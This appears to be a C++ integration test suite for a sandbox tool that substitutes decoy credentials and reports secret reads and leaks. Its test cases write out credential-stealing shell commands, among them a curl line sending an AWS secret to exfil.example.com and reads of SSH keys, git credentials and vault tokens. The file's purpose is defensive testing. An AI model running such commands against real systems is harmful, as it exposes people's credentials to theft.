// Stub credentials with real secrets planted in a temporary $HOME and environment:
// the command sees only canaries and decoys, every read and leak is reported, and
// no real secret value reaches anything the run stored.
#include <set>

#include "integration/harness.hpp"

using namespace whatif::test;
using nlohmann::json;

namespace {

const std::string kAwsKeyId = "AKIAREALKEYID0000042";
const std::string kAwsSecret = "realAwsSecret0000000000000000000000000042";
const std::string kGithubToken = "ghp_REALtoken000000000000000000000000042";
const std::string kSshKeyLine = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQREALREALREAL0000000042";
const std::string kGitPassword = "ghp_REALgitcred00000000000000000000000042";
const std::string kPgPassword = "realPgPassword0042";

struct SecretWorld : World {
    SecretWorld() {
        REQUIRE(whatif::util::make_dirs(home + "/.aws", 0700).has_value());
        REQUIRE(whatif::util::make_dirs(home + "/.ssh", 0700).has_value());
        std::ofstream(home + "/.aws/credentials")
            << "[default]\naws_access_key_id = " << kAwsKeyId
            << "\naws_secret_access_key = " << kAwsSecret << "\n";
        std::ofstream(home + "/.ssh/id_ed25519")
            << "-----BEGIN OPENSSH PRIVATE KEY-----\n"
            << kSshKeyLine << "\n-----END OPENSSH PRIVATE KEY-----\n";
        std::ofstream(home + "/.ssh/known_hosts")
            << "github.com ssh-ed25519 "
               "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n";
        std::ofstream(home + "/.git-credentials")
            << "https://ana:" << kGitPassword << "@github.com\n";
        std::ofstream(home + "/.pgpass") << "db.internal:5432:prod:admin:" << kPgPassword << "\n";
        chmod((home + "/.pgpass").c_str(), 0600);
    }

    // Runs `script` with a real token in the environment; the effect set.
    json run(const std::string& script, ProcessResult* raw_out = nullptr) {
        ProcessOptions o;
        o.cwd = host;
        o.env = {{"WHATIF_HOME", store},
                 {"HOME", home},
                 {"NO_COLOR", "1"},
                 {"GITHUB_TOKEN", kGithubToken},
                 {"AWS_SECRET_ACCESS_KEY", kAwsSecret}};
        const std::string report = root + "/report.json";
        auto raw = run_process(
            whatif_binary(),
            {"run", "-n", "--timeout", "30s", "--report", report, "--", "sh", "-c", script}, o);
        if (raw_out != nullptr) *raw_out = raw;
        INFO("stderr: " << raw.err);
        auto j = json::parse(read_text(report), nullptr, false);
        REQUIRE_FALSE(j.is_discarded());
        return j;
    }

    // Every byte the run stored (upper layers, logs, decoys, effect set).
    void check_store_has_no_real_secret() const {
        for (const auto& [path, entry] : snapshot_tree(store)) {
            if (entry.type != 'f') continue;
            const std::string content = read_text(store + "/" + path);
            for (const auto& secret :
                 {kAwsKeyId, kAwsSecret, kGithubToken, kSshKeyLine, kGitPassword, kPgPassword}) {
                INFO("stored file " << path);
                CHECK(content.find(secret) == std::string::npos);
            }
        }
    }
};

std::vector<json> secrets_of(const json& set, const std::string& kind) {
    std::vector<json> out;
    for (const auto& s : set["secrets"])
        if (s["kind"] == kind) out.push_back(s);
    return out;
}

}  // namespace

TEST_CASE(
    "a script that reads ~/.aws/credentials and sends it with curl: a leak to that host, naming "
    "the secret") {
    SecretWorld w;
    const auto set = w.run(
        "secret=$(grep aws_secret_access_key ~/.aws/credentials | cut -d' ' -f3); "
        "curl -s -m 10 -H \"Authorization: $secret\" http://exfil.example.com/upload -o /dev/null");
    const auto leaks = secrets_of(set, "leak");
    REQUIRE_FALSE(leaks.empty());
    bool named = false;
    for (const auto& l : leaks)
        if (l["path"] == w.home + "/.aws/credentials" &&
            l["destination"] == "exfil.example.com:80" && l["access"] == "sent")
            named = true;
    CHECK(named);
    bool read = false;
    for (const auto& f : secrets_of(set, "file"))
        if (f["path"] == w.home + "/.aws/credentials" && f["access"] == "read") read = true;
    CHECK(read);
    CHECK(set["decision"]["verdict"] == "deny");
    w.check_store_has_no_real_secret();
}

TEST_CASE("env | grep TOKEN shows only canaries; the replacement is recorded") {
    SecretWorld w;
    ProcessResult raw;
    const auto set = w.run("env | grep TOKEN", &raw);
    CHECK(raw.out.find("GITHUB_TOKEN=ghp_") != std::string::npos);
    CHECK(raw.out.find(kGithubToken) == std::string::npos);
    std::set<std::string> replaced;
    for (const auto& e : secrets_of(set, "env")) replaced.insert(e["name"].get<std::string>());
    CHECK(replaced.contains("GITHUB_TOKEN"));
    CHECK(replaced.contains("AWS_SECRET_ACCESS_KEY"));
    w.check_store_has_no_real_secret();
}

TEST_CASE("cat ~/.ssh/id_ed25519 gets a decoy and the read is recorded; known_hosts stays real") {
    SecretWorld w;
    ProcessResult raw;
    const auto set = w.run("cat ~/.ssh/id_ed25519; cat ~/.ssh/known_hosts", &raw);
    CHECK(raw.out.find("-----BEGIN OPENSSH PRIVATE KEY-----") == 0);
    CHECK(raw.out.find(kSshKeyLine) == std::string::npos);
    CHECK(raw.out.find("github.com ssh-ed25519 AAAAC3Nza") != std::string::npos);
    bool read = false;
    for (const auto& f : secrets_of(set, "file")) read |= f["path"] == w.home + "/.ssh/id_ed25519";
    CHECK(read);
    w.check_store_has_no_real_secret();
}

TEST_CASE(
    "git push with a credential helper: over HTTPS the destination, over HTTP the credential "
    "leak") {
    SecretWorld w;
    const std::string repo =
        "git init -q -b main r && cd r && git -c user.name=t -c user.email=t@example.com commit -q "
        "--allow-empty -m x && ";
    // HTTPS: the handshake fails before git would ask its helper; the attempt is recorded.
    auto set = w.run(repo +
                     "git remote add origin https://github.com/o/r.git && "
                     "GIT_TERMINAL_PROMPT=0 git -c credential.helper=store push -q origin main");
    bool tls_to_github = false;
    for (const auto& n : set["network"])
        if (const auto tls = n.value("tls", nlohmann::json());
            tls.is_object() && tls["sni"] == "github.com")
            tls_to_github = true;
    CHECK(tls_to_github);
    w.check_store_has_no_real_secret();
    // HTTP: challenged, git reads ~/.git-credentials and sends the (decoy) credential.
    SecretWorld plain;
    std::ofstream(plain.home + "/.git-credentials")
        << "http://ana:" << kGitPassword << "@git.example.com\n";
    set = plain.run(repo +
                    "git remote add origin http://git.example.com/o/r.git && "
                    "GIT_TERMINAL_PROMPT=0 git -c credential.helper=store push -q origin main");
    bool read = false, leak = false;
    for (const auto& f : secrets_of(set, "file"))
        read |= f["path"] == plain.home + "/.git-credentials";
    for (const auto& l : secrets_of(set, "leak"))
        leak |= l["path"] == plain.home + "/.git-credentials" &&
                l["destination"] == "git.example.com:80";
    CHECK(read);
    CHECK(leak);
    plain.check_store_has_no_real_secret();
}

TEST_CASE("psql with a password from ~/.pgpass: a leak to the database host") {
    SecretWorld w;
    const auto set = w.run("psql -h db.internal -U admin prod -c 'select 1'");
    bool leak = false;
    for (const auto& l : secrets_of(set, "leak"))
        if (l["path"] == w.home + "/.pgpass" && l["destination"] == "db.internal:5432") leak = true;
    CHECK(leak);
    w.check_store_has_no_real_secret();
}

TEST_CASE("copying ~/.aws/credentials into the project: a leak written to that path") {
    SecretWorld w;
    const auto set = w.run("cp ~/.aws/credentials ./aws-backup");
    bool leak = false;
    for (const auto& l : secrets_of(set, "leak"))
        if (l["access"] == "written" && l["destination"] == w.host + "/aws-backup") leak = true;
    CHECK(leak);
    CHECK_FALSE(w.exists(w.host + "/aws-backup"));
    w.check_store_has_no_real_secret();
}

TEST_CASE(
    "credential files that are symlinks (the dotfiles layout) get decoys, relative or absolute") {
    for (const bool absolute : {false, true}) {
        CAPTURE(absolute);
        SecretWorld w;
        REQUIRE(whatif::util::make_dirs(w.home + "/dotfiles", 0700).has_value());
        REQUIRE(rename((w.home + "/.aws/credentials").c_str(),
                       (w.home + "/dotfiles/aws").c_str()) == 0);
        REQUIRE(rename((w.home + "/.git-credentials").c_str(),
                       (w.home + "/dotfiles/git-credentials").c_str()) == 0);
        const std::string prefix = absolute ? w.home + "/dotfiles/" : "../dotfiles/";
        REQUIRE(symlink((prefix + "aws").c_str(), (w.home + "/.aws/credentials").c_str()) == 0);
        REQUIRE(
            symlink((absolute ? prefix + "git-credentials" : "dotfiles/git-credentials").c_str(),
                    (w.home + "/.git-credentials").c_str()) == 0);
        ProcessResult raw;
        w.run("cat ~/.aws/credentials ~/.git-credentials ~/dotfiles/aws", &raw);
        CHECK(raw.out.find("aws_access_key_id = AKIA") != std::string::npos);
        CHECK(raw.out.find(kAwsKeyId) == std::string::npos);
        CHECK(raw.out.find(kAwsSecret) == std::string::npos);
        CHECK(raw.out.find(kGitPassword) == std::string::npos);
        w.check_store_has_no_real_secret();
    }
}

TEST_CASE("secret variables the old name list missed are canaries inside, and named") {
    World w;
    const std::string pg = "realPgEnvPassword0042", dsn = "realDsnPassword0042",
                      jdbc = "realJdbcPassword0042";
    ProcessOptions o;
    o.cwd = w.host;
    o.env = {{"WHATIF_HOME", w.store},
             {"HOME", w.home},
             {"PGPASSWORD", pg},
             {"SSHPASS", pg + "b"},
             {"github_token", pg + "c"},
             {"APP_DB", "postgres://app:" + dsn + "@db.internal/prod"},
             {"JDBC", "jdbc:mysql://h/db?user=u&password=" + jdbc},
             {"GIT_ASKPASS", "/bin/sh"}};
    const std::string report = w.root + "/report.json";
    const auto raw =
        run_process(whatif_binary(), {"run", "-n", "--report", report, "--", "sh", "-c", "env"}, o);
    INFO("stderr: " << raw.err);
    REQUIRE(raw.exit_code != 1);
    for (const auto& secret : {pg, dsn, jdbc}) CHECK(raw.out.find(secret) == std::string::npos);
    CHECK(raw.out.find("GIT_ASKPASS=/bin/sh") != std::string::npos);
    CHECK(raw.out.find("APP_DB=postgres://app:") != std::string::npos);
    const auto set = json::parse(read_text(report), nullptr, false);
    REQUIRE_FALSE(set.is_discarded());
    std::set<std::string> replaced;
    for (const auto& e : secrets_of(set, "env")) replaced.insert(e["name"].get<std::string>());
    for (const char* name : {"PGPASSWORD", "SSHPASS", "github_token", "APP_DB", "JDBC"})
        CHECK_MESSAGE(replaced.contains(name), name);
    CHECK_FALSE(replaced.contains("GIT_ASKPASS"));
    const auto shown = run_process(whatif_binary(), {"show", "last"}, o);
    CHECK(shown.out.find("PGPASSWORD") != std::string::npos);  // the report names them
}

TEST_CASE(
    "credential files beyond the usual list get decoys: git's XDG file, nested ssh keys, "
    ".ppk, vault, parents' .env, files named by variables, a large kubeconfig") {
    SecretWorld w;
    const std::string token = "realToken0000000000000000000000000042";
    REQUIRE(whatif::util::make_dirs(w.home + "/.config/git", 0700).has_value());
    REQUIRE(whatif::util::make_dirs(w.home + "/.ssh/work", 0700).has_value());
    REQUIRE(whatif::util::make_dirs(w.home + "/.putty", 0700).has_value());
    std::ofstream(w.home + "/.config/git/credentials")
        << "https://ana:" << token << "a@git.example\n";
    std::ofstream(w.home + "/.ssh/work/id_rsa") << "-----BEGIN RSA PRIVATE KEY-----\n"
                                                << token << "b\n-----END RSA PRIVATE KEY-----\n";
    std::ofstream(w.home + "/.putty/server.ppk") << "Private-Lines: 1\n" << token << "c\n";
    std::ofstream(w.home + "/.vault-token") << token << "d\n";
    std::ofstream(w.root + "/.env") << "API_KEY=" << token << "e\n";  // the project's parent
    const std::string kube = w.root + "/kubeconfig", gcp = w.root + "/gcp.json";
    {
        std::ofstream k(kube);  // past the size decoys are rewritten at: an empty decoy
        k << "token: " << token << "f\n";
        k << std::string(17 << 20, '#') << "\n";
    }
    std::ofstream(gcp) << "{\"private_key\": \"" << token << "g\"}\n";
    ProcessOptions o;
    o.cwd = w.host;
    o.env = {{"WHATIF_HOME", w.store},
             {"HOME", w.home},
             {"KUBECONFIG", "/nonexistent:" + kube},
             {"GOOGLE_APPLICATION_CREDENTIALS", gcp}};
    const auto raw = run_process(whatif_binary(),
                                 {"run", "-n", "--", "sh", "-c",
                                  "cat ~/.config/git/credentials ~/.ssh/work/id_rsa "
                                  "~/.putty/server.ppk ~/.vault-token ../.env "
                                  "'" +
                                      gcp + "'; head -c 100 '" + kube + "'"},
                                 o);
    INFO("stderr: " << raw.err);
    REQUIRE(raw.exit_code != 1);
    CHECK(raw.out.find(token) == std::string::npos);
    CHECK(raw.out.find("https://ana:") != std::string::npos);  // the format stays
    w.check_store_has_no_real_secret();
    for (const auto& [path, entry] : snapshot_tree(w.store)) {
        if (entry.type != 'f' || entry.size > (1 << 20)) continue;
        INFO("stored file " << path);
        CHECK(read_text(w.store + "/" + path).find(token) == std::string::npos);
    }
}
